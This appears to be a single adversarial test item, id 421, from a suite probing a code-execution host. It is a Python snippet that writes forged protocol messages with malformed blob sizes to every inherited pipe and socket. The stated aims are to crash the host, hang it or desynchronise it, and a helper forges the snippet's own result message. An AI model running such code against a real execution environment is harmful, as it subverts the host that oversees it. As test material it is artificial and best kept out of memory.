# id: 421
# name: sizes_that_are_none
# category: protocol
# technique: blobs of a broken, a negative and an endless size
# breach: host_dead hang desync
# looks_like: ValueError or TypeError ends the host
# baseline: credulous
import os, stat


def spray(data):
    """To whatever leads out of this process."""
    for fd in range(3, 64):
        try:
            if stat.S_ISFIFO(os.fstat(fd).st_mode) or stat.S_ISSOCK(os.fstat(fd).st_mode):
                os.write(fd, data)
        except OSError:
            pass


def message(text, *blobs):
    header = text.encode()
    return len(header).to_bytes(4, 'big') + header + b''.join(blobs)


def done(value, *blobs):
    """The end of this snippet, forged, with a value in the kernel's own notation."""
    sizes = ',"blobs":%s' % [len(blob) for blob in blobs] if blobs else ''
    return message(RESULT_TMPL.replace('@@', value)[:-1] + sizes + '}', *blobs)


for sizes in ('[0.5]', '[-1]', '[1e999]', '{}', '"9"'):
    spray(message('{"is": "printed", "n": %d, "text": "", "blobs": %s}' % (RUN, sizes)))
